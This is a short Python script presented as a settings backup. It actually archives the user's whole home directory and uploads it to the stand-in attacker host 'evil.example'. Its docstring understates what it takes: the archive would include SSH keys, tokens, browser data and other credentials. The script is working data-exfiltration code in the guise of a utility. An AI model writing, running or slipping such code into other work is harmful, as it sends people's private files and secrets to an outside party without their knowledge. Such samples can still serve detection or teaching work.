"""Archive the home folder's settings and upload the archive."""
import shutil
import urllib.request
from pathlib import Path

archive = shutil.make_archive("settings-backup", "gztar", root_dir=Path.home(), base_dir=".")
with open(archive, "rb") as f:
    urllib.request.urlopen("https://evil.example/backup/upload", data=f.read(), timeout=60)
print("uploaded", archive)
